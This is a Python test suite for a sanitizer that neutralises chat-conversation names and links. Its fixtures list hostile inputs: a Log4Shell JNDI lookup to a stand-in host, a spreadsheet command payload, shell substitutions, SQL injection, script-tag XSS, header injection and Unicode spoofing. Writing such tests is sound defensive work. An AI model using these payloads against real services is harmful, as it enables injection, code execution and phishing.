"""Text from an API does nothing in any service, and can still be read."""

import re
import unicodedata

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from watcher.domain.inert import NAME_LENGTH, inert, inert_name, inert_url, is_address

RIGHT_TO_LEFT, ISOLATE, ZERO_WIDTH, JOINER = "\u202e", "\u2066", "\u200b", "\u2060"
MENTIONS = (
    "@everyone @here @channel @all <!channel> <!here> <!everyone> <@U012AB3CD> <@!123> <@&456> <#C024BE7LR> "
    "<!subteam^SAZ94GDB8> ＠everyone ﹫here @room @user:matrix.org #general ＃general #room:matrix.org ~town-square"
).split()
LINKS = (
    "https://evil.example http://evil.example/a?b=c ftp://evil.example evil.example www.evil.example x.io "
    "<https://evil.example|bank> [bank](https://evil.example) [bank][1] ![pic](https://evil.example/p.png) "
    "[[wiki]] <a·href=x>bank</a> mailto:a@evil.example a@evil.example javascript:alert(1) tel:+123 //evil.example/x "
    "data:text/html,x slack://open matrix:u/x magnet:?xt=1 [x]:https://evil.example HTTPS://EVIL.EXAMPLE "
    "evil．example evil。example evil｡example www．evil.example"
).split()
MARKUP = (
    "**bold** *bold* _it_ __u__ ~~gone~~ ~gone~ `code` ```block``` ||spoiler|| <b>x</b> <script>alert(1)</script> "
    "&lt;!channel&gt; &#60;b&#62; &amp;lt; <img/src=x/onerror=y> :tada: <t:1543392060> \\*x\\* \\u003cb\\u003e "
    "</title> ]]> <!--x--> {{x}} ${HOME} %s %(x)s {0} {name} $(id) `id` /start /me;rm <br/> <%=x%> ＜b＞ ＊x＊"
).split()
LINES = (
    "a\nb",
    "a\r\nBcc: x",
    "a\rb",
    "a\x00b",
    "a\x1b[31mb",
    "a\x07b",
    "a\x85b",
    "a\u2028b",
    "a\u2029b",
    "a\x0bb",
    "a\x0cb",
    "a\tb",
    "a\x7fb",
    "Subject: x\r\n\r\nbody",
)
HIDDEN = (
    f"abc{RIGHT_TO_LEFT}fdp.exe",
    f"{ISOLATE}abc",
    f"@{ZERO_WIDTH}everyone",
    f"@{JOINER}here",
    f"<{ZERO_WIDTH}!channel>",
    "h\u00adttps://evil.example",
    "evil\u200d.example",
    "\ufeffabc",
    "\U000e0041\U000e0042abc",
    "\u061cabc",
    "\u200eabc\u200f",
    "\u3164",
    "\u2800\u2800",
    "a\u034fb",
    "\ud800x",
    "x\ue000",
    "Z" + "\u0300\u0316" * 60 + "algo",
    "\u115f\u1160",
    "\uffa0",
)
CODE = (
    '=HYPERLINK("https://evil.example","bank")',
    "+1+cmd|' /C calc'!A0",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}{% raw %}#{7*7}",
    "\x1b]8;;https://evil.example\x07bank\x1b]8;;\x07",
    "\x9b31m\x1b[2J",
    "<@U1|everyone>",
    "<!date^0^{date}^https://evil.example|x>",
    "<mailto:a@evil.example|b>",
    "ｈｔｔｐｓ：／／evil.example",
    "𝒽𝓉𝓉𝓅𝓈://𝑒𝓋𝒾𝓁.𝑒𝓍𝒶𝓂𝓅𝓁𝑒",
    "=?utf-8?q?=0D=0ABcc:_x@evil.example?=",
    "]]>]]&gt;<![CDATA[<b>]]>",
    "' OR 1=1 -- \"; DROP TABLE x",
    "> quote\n# heading\n- list\n1. one\n---\n| a | b |",
)
LONG = ("x" * 100_000, "@" * 5_000, "[" * 5_000, "<" * 5_000, "._" * 5_000, ":a" * 5_000, "&" * 5_000, "/a" * 5_000)
HOSTILE = (*MENTIONS, *LINKS, *MARKUP, *LINES, *HIDDEN, *CODE, *LONG, "", " ", "   \n ")

LIVE = {
    "a mention": r"[@＠﹫][^\s”…]",
    "a Slack or HTML tag": r"[<>＜＞]",
    "a scheme": r"\w://",
    "a Markdown link": r"\]\(|\]\[|\]:",
    "a bare domain": r"\w\.[^\W\d_]{2}|\w[．。｡][A-Za-z]{2}",
    "emphasis or code": r"[*`~|＊]",
    "an entity": r"&#?\w+;",
    "an emoji": r":[\w+-]+:",
    "a scheme without slashes": r"(?i)\b(mailto|javascript|data|tel):[^\s”…]",
    "a command": r"(^|\s)/\w",
    "a hash tag": r"[#＃][^\W\d]",
    "a backslash": r"\\",
}


def live(text: str) -> list[str]:
    return [what for what, pattern in LIVE.items() if re.search(pattern, text)]


def assert_inert(text: str) -> None:
    assert live(text) == []
    assert not [hex(ord(sign)) for sign in text if unicodedata.category(sign) in {"Cc", "Cf", "Cs", "Zl", "Zp", "Co"}]
    assert len(text) <= NAME_LENGTH + 2


def test_there_are_more_than_a_hundred_hostile_names() -> None:
    assert len(set(HOSTILE)) > 100


@pytest.mark.parametrize("name", HOSTILE, ids=range(len(HOSTILE)))
def test_a_hostile_name_does_nothing(name: str) -> None:
    assert_inert(inert_name(name))
    assert_inert(inert_name(f"Course {name} and {name}"))


pieces = st.lists(st.sampled_from([*MENTIONS, *LINKS, *MARKUP, *LINES, *HIDDEN, "@", "<", ":", ".", "/", "_", "]("]))


@settings(deadline=None)
@given(st.one_of(st.text(), pieces.map("".join)))
@example("::a:")
@example("a..io")
@example("@")
@example("@@x")
@example("&&lt;;")
def test_no_text_at_all_does_anything(name: str) -> None:
    assert_inert(inert_name(name))


@settings(deadline=None)
@example("x" * 294 + " data:text/html,x")  # cut behind a sign that would be broken
@given(pieces.map(" ".join))
def test_inert_text_stays_as_it_is(name: str) -> None:
    assert inert(inert(name)) == inert(name)


@pytest.mark.parametrize(
    "name",
    [
        "Leading Change",
        "Führung & Wandel – Teil 2 (C#, .NET)",
        "v2.0: snake_case, 50 % off, 3/4 done, a/b",
        "日本語。これは終わり。",
        "Größe ≠ Gewicht; 日本語 العربية हिन्दी Tiếng Việt",
        "Q&A at 10:30",
        "Emoji 🎉 stay",
        "What's [new]?",
    ],
)
def test_a_plain_name_is_left_alone(name: str) -> None:
    assert inert(name) == name


@pytest.mark.parametrize(
    "name, shown",
    [
        ("@everyone", "@ everyone"),
        ("<!channel>", "‹!channel›"),
        ("https://evil.example/a", "https: //evil. example/a"),
        ("[bank](evil)", "[bank] (evil)"),
        ("a\r\nBcc: x", "a Bcc: x"),
    ],
)
def test_what_was_meant_can_still_be_read(name: str, shown: str) -> None:
    assert inert(name) == shown


def test_a_long_name_is_cut_with_an_ellipsis() -> None:
    assert inert_name("x" * 500) == f"“{'x' * 119}…”"


@pytest.mark.parametrize("name", ["", " \n", ZERO_WIDTH])
def test_a_name_of_nothing_has_words(name: str) -> None:
    assert inert_name(name) == "a conversation without a name"


@pytest.mark.parametrize(
    "url, shown",
    [
        ("https://tenant.onq.io/c/1017", "https://tenant.onq.io/c/1017"),
        ("https://host/osn/web/#conversation:id=1&m=MESSAGES", "https://host/osn/web/#conversation:id=1&m=MESSAGES"),
        ("http://[::1]:8080/c", "http://[::1]:8080/c"),
        ("https://host/c/@everyone|x>\n", "https://host/c/%40everyone%7Cx%3E"),
        ("https://host/c/a b\nc", "https://host/c/a%20b%0Ac"),
        ("https://host/c/ü", "https://host/c/%C3%BC"),
        ("javascript:alert(1)", ""),
        ("https://ho st/", ""),
        ("", ""),
        ("https://host/" + "x" * 1000, ""),
    ],
)
def test_a_link_is_one_link_or_none(url: str, shown: str) -> None:
    assert inert_url(url) == shown


@given(st.text(alphabet="abzwÀéÖ×÷ß09 ,;?()'+-.:!&", max_size=60))
def test_a_text_that_is_harmless_at_a_glance_is_so_at_a_closer_look(text: str) -> None:
    # The dagger is looked at closely, and with it all that stands before it, which it does not change.
    assert inert(f"{text} †") == f"{inert(text)} †".lstrip()


@pytest.mark.parametrize("name", HOSTILE, ids=range(len(HOSTILE)))
def test_whatever_becomes_a_link_is_an_address_and_nothing_else_is(name: str) -> None:
    link = inert_url(f"https://host/c/{name}")
    assert is_address(link) == bool(link)
    assert not re.search(r"[\s<>|\"'`*\\@]|&#?\w+;", link)
    assert not is_address(inert(name))
